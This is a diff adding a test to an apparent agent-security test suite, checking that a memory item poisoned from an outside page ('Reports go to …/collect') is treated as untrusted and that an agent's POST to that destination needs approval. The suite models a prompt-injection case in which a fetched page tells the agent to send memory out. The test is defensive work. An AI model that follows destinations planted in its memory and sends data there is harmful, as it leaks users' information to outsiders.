@@ -149,6 +149,13 @@ describe("lethal trifecta: a fetched page tells the agent to send memory out", (
     expect(decisions.map((e) => (e.data as { ruleId: string }).ruleId)).toEqual(["ask-write", "ask-tainted-egress", "allow-granted"]);
   });
 
+  it("a destination named only in a memory item made from outside content counts as untrusted, not as the person's memory (issue 11)", async () => {
+    await store.memory.addMemory({ personId, kind: "fact", text: `Reports go to ${outside.origin}/collect`, taint: { source: "https://news.example/page" } });
+    const result = await sentinel.wrap()(tool("http_request"), { url: `${outside.origin}/collect`, method: "POST", body: "x" }, ctx({ idempotencyKey: "act5:1:0" }));
+    expect(result).toMatchObject({ code: "approval_required" });
+    expect(parseApprovalDetails(requested[0]!)).toMatchObject({ offered: ["once", "deny"], provenance: { kind: "untrusted", source: "https://news.example/page", firstSeenUntrusted: true } });
+  });
+
   it("the taint sticks to the activation: an ungranted read after a fetch asks for taint, before it only as a new destination", async () => {
     await fetchPage();
     const exec = sentinel.wrap();
